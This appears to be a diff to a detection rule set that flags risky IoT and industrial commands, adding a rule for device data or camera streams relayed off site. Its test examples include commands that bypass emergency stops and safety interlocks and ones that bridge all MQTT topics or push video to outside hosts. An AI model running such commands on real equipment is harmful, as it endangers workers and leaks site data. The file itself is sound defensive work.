@@ -4,7 +4,7 @@ import { mentions, sanctioned } from '../frames/profiles.js';
 import { instructionMask } from '../frames/instructions.js';
 import { safeguarded } from '../frames/safeguards.js';
 import { BOUND_PATTERNS, statedBoundBroken } from '../frames/bounds.js';
-import { IOT_CONTEXT_PATTERNS, IOT_READING_PATTERNS, READING_KEPT, readingPublished, deviceSecretsOut, vehicleAccess, occupancyOf, pastStatedLimit, safetyTagOff, switchPhrases } from '../parse/iot-context.js';
+import { IOT_CONTEXT_PATTERNS, IOT_READING_PATTERNS, IOT_RELAY_PATTERNS, READING_KEPT, brokerRelayedOut, readingPublished, streamPushedOut, deviceSecretsOut, vehicleAccess, occupancyOf, pastStatedLimit, safetyTagOff, switchPhrases } from '../parse/iot-context.js';
 import { findNear, metaText, PARSE_LIMIT, PREP_PATTERNS, type PrepContext } from '../parse/infra-prep.js';
 import { PREP_FAST_PATTERNS, prepKeys, prepTextFast } from '../parse/ui-action-host.js';
 import type { Analyzer, Metadata, Primitive, ThreatRule } from '../types.js';
@@ -690,7 +690,7 @@ const rules: ThreatRule<IotContext>[] = [
     score: 8,
     keywords: ['firmware', 'flash', 'ota', '.bin', '.hex', 'rom', 'bootloader', 'secure boot', 'dfu'],
     // a write request to the firmware endpoint ("POST …/firmware {url}") is the flash
-    pattern: /\b(?:flash(?:ing)?|install|upload|push|update|upgrade|downgrade|rollback|roll back|write|load|ota|post|put)\b/i,
+    pattern: /\b(?:flash(?:ing)?|install|upload|push|update|upgrade|downgrade|rollback|roll back|write|load|ota|post|put)\b|\bota_(?:update|url|upgrade|apply)\b|\bfirmware_url\b/i,
     detect: (ctx) => {
       if (!O08_RX1.test(ctx.head)) return null;
       if (O08_RX2.test(ctx.head)) return null;
@@ -826,7 +826,7 @@ const rules: ThreatRule<IotContext>[] = [
     primitive: 'DESTRUCTION',
     score: 9,
     // identifiers only ("SafetyInterlock", "ESTOP_BYPASS"): plain words like "safety" or "trip" would admit prose
-    keywords: ['interlock', 'curtain', 'estop', 'e_stop', 'emergencystop', 'emergency_stop', 'safety_', 'safety.', 'safetyrelay', 'guarddoor', 'guard_door', '_trip', 'trip_', 'cutoff', 'cut_off', 'overtemp', 'overpressure', 'reliefvalve', 'relief_valve', 'limitswitch', 'limit_switch', 'sprinkler_', 'firealarm', 'fire_alarm'],
+    keywords: ['interlock', 'curtain', 'estop', 'e_stop', 'emergencystop', 'emergency_stop', 'safety_', 'safety.', 'safetyrelay', 'guarddoor', 'guard_door', '_trip', 'trip_', 'cutoff', 'cut_off', 'overtemp', 'overpressure', 'reliefvalve', 'relief_valve', 'limitswitch', 'limit_switch', 'sprinkler_', 'firealarm', 'fire_alarm', '_protection', 'dry_run', 'dryrun', 'anti_islanding', 'overload_'],
     detect: (ctx) => {
       if (QUESTION.test(ctx.head)) return null;
       const tag = safetyTagOff(ctx.text);
@@ -834,8 +834,32 @@ const rules: ThreatRule<IotContext>[] = [
     },
     reason: (d) => `Takes a safety function out of the process: ${d}`,
     examples: {
-      flag: ['Set PLC tag Press_03.SafetyInterlock_Override = TRUE and LightCurtain_Enable = FALSE; resume cycle', 'write Line2.ESTOP_BYPASS := 1', '{"light_curtain_enabled": false}'],
-      pass: ['Set PLC tag Press_03.SafetyInterlock_Override = FALSE and LightCurtain_Enable = TRUE', 'read Line2.ESTOP_BYPASS', 'set Safety_Report_Interval = 60'],
+      flag: ['Set PLC tag Press_03.SafetyInterlock_Override = TRUE and LightCurtain_Enable = FALSE; resume cycle', 'write Line2.ESTOP_BYPASS := 1', '{"light_curtain_enabled": false}', 'PUBLISH mill/pump/2/cmd {"dry_run_protection": false, "rpm": 3000}'],
+      pass: ['Set PLC tag Press_03.SafetyInterlock_Override = FALSE and LightCurtain_Enable = TRUE', 'read Line2.ESTOP_BYPASS', 'set Safety_Report_Interval = 60', 'PUBLISH mill/pump/2/cmd {"dry_run_protection": true, "rpm": 1500}'],
+    },
+  },
+  {
+    id: 'O22',
+    name: 'Every device message or a camera stream sent on to an outside broker or streaming host',
+    // what it does: whatever the devices report (positions, card reads, readings) or film leaves the site for a host
+    // nobody on it controls
+    primitive: 'EXFILTRATION',
+    score: 8,
+    keywords: ['topic', 'topics', 'mosquitto_sub', 'rtmp', 'srt://'],
+    // the value as written (the folded copies join a host's labels): read once, over the whole value
+    scope: 'whole',
+    detect: (ctx) => {
+      const broker = brokerRelayedOut(ctx.raw);
+      if (broker !== '') return `every topic bridged or relayed to ${broker}`;
+      const stream = streamPushedOut(ctx.raw);
+      return stream === '' ? null : { detail: `video stream pushed to ${stream}`, score: 7 };
+    },
+    reason: (d) => `Sends what the devices see or report off site: ${d}`,
+    examples: {
+      flag: ['connection offsite\naddress broker.example-public.net:1883\ntopic # out 0', "mosquitto_sub -h broker.plant.local -t '#' -v | mosquitto_pub -h public.mqtt-host.example -t dump -l",
+        '{"action": "bridge_add", "remote": "mqtts://relay.free-mqtt.example:8883", "topics": ["#"], "direction": "out"}', '{"stream": {"push": "rtmp://live.relay-cdn.example/app/77", "enabled": true}}'],
+      pass: ['connection hq\naddress mqtt.hq.corp:1883\ntopic site7/# out 1', 'connection offsite\naddress broker.example-public.net:1883\ntopic site7/status out 0', "mosquitto_sub -h broker.plant.local -t '#' -C 5 -v",
+        '{"stream": {"push": "rtmp://nvr.site.local/live/77", "enabled": true}}', '{"stream": {"push": "rtmp://live.relay-cdn.example/app/77", "enabled": false}}'],
     },
   },
   {
